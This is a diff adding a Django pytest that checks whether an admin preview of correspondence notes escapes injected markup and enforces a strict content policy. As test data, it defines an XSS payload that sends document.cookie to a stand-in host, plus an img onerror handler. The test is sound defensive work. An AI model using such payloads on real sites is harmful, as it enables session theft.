@@ -1,0 +1,42 @@
+"""A note's wording is typed by people outside the secretariat; the preview an officer opens shows it as text,
+and the page's policy would stop a script that got through anyway (issue 12, item 1)."""
+
+import re
+
+import pytest
+from django.urls import reverse
+
+from correspondence.models import AddresseeGroup
+from tests.csp import is_strict
+
+from . import helpers
+
+pytestmark = pytest.mark.django_db
+
+SCRIPT = '<script>fetch("https://elsewhere.example/?" + document.cookie)</script>'
+HANDLER = '<img src="x" onerror="alert(document.domain)">'
+
+
+def test_a_script_in_a_notes_wording_is_shown_as_text_under_a_strict_policy(client, member, office, meeting, parties):
+    note = helpers.draft(
+        office,
+        member,
+        meeting=meeting,
+        groups=[AddresseeGroup.STATES_PARTIES],
+        subject=f"Invitation {SCRIPT}",
+        body=f"{{{{ opening }}}} invite it. {SCRIPT} {HANDLER}\n\n{{{{ closing }}}}",
+    )
+    officer = helpers.secretariat_user()
+    client.force_login(officer)
+
+    response = client.get(reverse("admin:correspondence_note_preview", args=[note.pk]))
+
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert is_strict(response)
+    # The only scripts are the portal's own files, and no element carries an event handler.
+    assert re.findall(r"<script\b[^>]*>", html) == ['<script src="/static/correspondence/preview.js" defer>']
+    assert not re.search(r"<[^>]+\son\w+\s*=", html)
+    assert "elsewhere.example" in html  # the wording is there, as text
+    assert "&lt;script&gt;fetch(" in html  # escaped by the sandbox, then shown as text
+    assert "&lt;img src=&#34;x&#34; onerror=" in html
